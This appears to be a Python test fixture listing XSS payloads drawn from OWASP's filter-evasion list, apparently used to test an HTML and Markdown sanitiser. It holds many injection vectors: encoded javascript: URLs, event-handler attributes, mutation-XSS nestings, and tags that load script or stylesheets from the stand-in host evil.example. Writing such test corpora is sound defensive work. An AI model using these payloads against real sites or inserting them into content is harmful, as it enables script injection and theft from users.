"""Hostile HTML after OWASP's XSS filter evasion list, and after what broke sanitisers since."""

# ruff: noqa: E501
_J = "javascript:alert(1)"
_TAGS_WITH_URL = ["a href", "img src", "audio src", "video src", "video poster", "blockquote cite", "q cite", "link href",
                  "iframe src", "embed src", "object data", "form action", "input src", "body background", "table background",
                  "td background", "base href", "frame src", "image src", "isindex action", "source src", "track src",
                  "ins cite", "del cite", "math href", "use href", "button formaction", "svg xlink:href", "img srcset",
                  "img longdesc", "img dynsrc", "img lowsrc", "bgsound src", "layer src", "a ping", "html manifest"]  # fmt: skip
_URLS = [_J, "JaVaScRiPt:alert(1)", " javascript:alert(1)", "jav&#x09;ascript:alert(1)", "jav\tascript:alert(1)",
         "jav&#10;ascript:alert(1)", "&#106;&#97;vascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "\x01javascript:alert(1)",
         "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
         "livescript:x", "file:///etc/passwd", "//evil.example/x", "/relative", "mxc://evil.example/abc",
         "mxc://tea.example/../x", "mxc://tea.example/a?b", "http:javascript:alert(1)", "feed:javascript:alert(1)",
         "view-source:javascript:x", "blob:https://x/1", "ws://x", "tel:1", "javascript&colon;alert(1)"]  # fmt: skip
_HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onbegin", "ontoggle", "onpointerover", "onanimationend",
             "ONERROR", "style", "id", "class", "name", "srcdoc", "form", "data-x", "aria-owns", "contenteditable"]  # fmt: skip

VECTORS: list[str] = [
    *(f'<{tag}="{_J}">x' for tag in _TAGS_WITH_URL),
    *(f'<a href="{url}">x</a>' for url in _URLS),
    *(f'<img src="{url}">' for url in _URLS),
    *(f'<img src=x {handler}="alert(1)">' for handler in _HANDLERS),
    *(f"<div {handler}=alert(1)>x</div>" for handler in _HANDLERS),
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<script/xss src=x></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0b>alert(1)</script>",
    "\"><script>alert(1)</script>", "</title><script>alert(1)</script>", "<svg onload=alert(1)>", "<svg><script>1</script>",
    "<svg><style><img src=x onerror=alert(1)></style>", "<math><mi//xlink:href=\"data:x,<script>1</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">", "<xmp><img title=\"</xmp><img src=x onerror=1>\">",
    "<style>@import 'http://evil.example'</style>", "<style>body{background:url(javascript:1)}</style>",
    "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"width:expression(alert(1))\">",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object type=text/x-scriptlet data=//evil.example></object>", "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=javascript:1?>", "<?php echo 1 ?>", "<%= 1 %>",
    "<img src=x:alert(1) onerror=eval(src)>", "<img \"\"\"><script>alert(1)</script>\">", "<img/src=x/onerror=alert(1)>",
    "<a href=\"http://x\" target=_blank onclick=1>x</a>", "<a href='https://x\" onmouseover=alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<audio src onloadstart=1>",
    "<marquee onstart=alert(1)>x</marquee>", "<input autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=1>",
    "<select autofocus onfocus=alert(1)>", "<plaintext><script>1", "<isindex type=image src=1 onerror=1>", "<x onclick=1>x",
    "<b/onclick=alert(1)>x", "<p lang='\"><script>1</script>'>x", "<td colspan='1\" onclick=1'>x", "<ol start=1e9999>x",
    "+ADw-SCRIPT+AD4-alert(1)+ADw-/SCRIPT+AD4-", "\u2028<script>1</script>", "<ſcript>alert(1)</ſcript>",
    "<a\x00href=javascript:1>x</a>", "<img src='mxc://tea.example/a\" onerror=\"alert(1)'>", "<div>" * 5000 + "x",
    "[x](javascript:alert(1))", "![x](data:text/html,x)", "[x](<javascript:alert(1)>)", "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]", "`<script>`<script>alert(1)</script>", "[a](https://x \"\\\" onclick=1\")",
]  # fmt: skip
